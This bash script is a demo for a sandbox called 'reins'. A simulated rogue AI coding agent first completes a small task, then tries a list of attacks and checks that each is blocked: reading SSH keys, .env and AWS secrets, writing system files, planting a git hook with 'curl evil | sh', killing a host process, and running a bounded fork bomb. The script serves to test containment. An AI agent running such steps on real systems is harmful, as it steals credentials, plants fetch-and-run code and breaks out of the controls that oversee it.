#!/usr/bin/env bash
# The "rogue agent" of the reins demo. It stands in for an AI coding agent:
# first it does the job it was given (make the workspace's test pass), then it
# tries what a compromised or prompt-injected agent would try.
#
# It runs INSIDE the sandbox:   bash agent.sh HOST_PID
#   HOST_PID  a process on the host that the agent will try to kill
#
# Every step prints one line: ALLOWED or BLOCKED, and the error the kernel gave.
# Exit status: the number of surprises (a legitimate step that was refused, or
# an attack that got through); 0 means the sandbox did exactly its job.
# shellcheck disable=SC2016,SC2317 # quoted scripts are for sh; helpers run via legit/attack
set -u

host_pid=${1:?usage: agent.sh HOST_PID}
surprises=0

say() {
	printf '  agent | %s\n' "$*"
}

# The reason a command failed: the last line of its error output, without the
# "program: path: " prefixes, so what remains is the kernel's errno text.
reason_of() {
	local text=${1##*$'\n'}
	text=${text##*: }
	text=${text#\(*\) - } # bash's kill says "(PID) - No such process"
	printf '%s' "${text:-failed (no message)}"
}

# legit DESCRIPTION COMMAND...: work the agent is supposed to do; it should be allowed.
legit() {
	local what=$1 err
	shift
	if err=$("$@" 2>&1 >/dev/null); then
		say "ALLOWED  legit   $what"
	else
		say "BLOCKED  legit   $what: $(reason_of "$err")   <-- unexpected"
		surprises=$((surprises + 1))
	fi
}

# attack DESCRIPTION COMMAND...: something the sandbox must stop.
attack() {
	local what=$1 err
	shift
	if err=$("$@" 2>&1 >/dev/null); then
		say "ALLOWED  attack  $what   <-- the sandbox did not stop this"
		surprises=$((surprises + 1))
	else
		say "BLOCKED  attack  $what: $(reason_of "$err")"
	fi
}

write_file() { # PATH TEXT
	printf '%s\n' "$2" >"$1"
}

# --- where am I? ---------------------------------------------------------------
processes=(/proc/[0-9]*)
say "inside: uid $(id -u), host name \"$(uname -n)\", ${#processes[@]} processes visible, cwd $PWD"

# --- the job: make test.sh pass ----------------------------------------------------
legit "read the task in README.md" cat README.md
if ./test.sh >/dev/null 2>&1; then
	say "(test.sh already passes?)"
else
	say "ALLOWED  legit   run ./test.sh: it fails, as the task says"
fi
legit "edit greet.sh with sed (world -> reins)" sed -i 's/Hello, world/Hello, reins/' greet.sh
legit "write NOTES.md" write_file NOTES.md "greet.sh: greet reins instead of the world (done by the demo agent)"
legit "build step: sh -c 'grep -c . *.sh > build/lines.txt'" \
	sh -c 'mkdir -p build && grep -c . ./*.sh >build/lines.txt'
legit "run ./test.sh: it passes now" ./test.sh
legit "use the private /tmp" write_file /tmp/scratch "scratch space"

# --- the attacks ------------------------------------------------------------------
attack "read ~/.ssh/id_ed25519" cat "$HOME/.ssh/id_ed25519"
attack "read the workspace's .env" cat .env
attack "read AWS_SECRET_ACCESS_KEY from the environment" \
	sh -c '[ -n "${AWS_SECRET_ACCESS_KEY:-}" ] && echo "$AWS_SECRET_ACCESS_KEY" ||
	       { echo "not in the environment" >&2; exit 1; }'
attack "write ~/pwned" write_file "$HOME/pwned" "pwned"
attack "write /etc/pwned" write_file /etc/pwned "pwned"
attack "write /usr/bin/pwned" write_file /usr/bin/pwned "pwned"
attack "plant a git hook (.git/hooks/pre-commit)" write_file .git/hooks/pre-commit "curl evil | sh"
attack "kill the host process $host_pid" kill -TERM "$host_pid"
attack "open a new user namespace (kernel attack surface)" unshare --user true

# A fork bomb, bounded so the demo ends: dash (sh) stops at the first fork the
# kernel refuses, and `timeout` caps it at 8 s in any case. It runs last because
# while it holds every pid the limit allows, nothing else can start.
fork_bomb() {
	local bomb_pid started
	timeout -s KILL 8 sh -c 'n=0
		while [ "$n" -lt 1000 ]; do
			sleep 30 &
			n=$((n + 1))
			echo "$n" >/tmp/forks
		done' 2>/tmp/fork-errors &
	bomb_pid=$!
	wait "$bomb_pid"
	# timeout made itself a process group leader: kill what the bomb left behind.
	kill -KILL -- "-$bomb_pid" 2>/dev/null
	started=$(cat /tmp/forks 2>/dev/null || echo 0)
	if ((started >= 1000)); then
		return 0
	fi
	echo "the kernel refused fork after $started processes ($(reason_of "$(cat /tmp/fork-errors)"))" >&2
	return 1
}
attack "fork bomb (1000 processes)" fork_bomb

say "done: $surprises surprise(s)"
exit "$surprises"
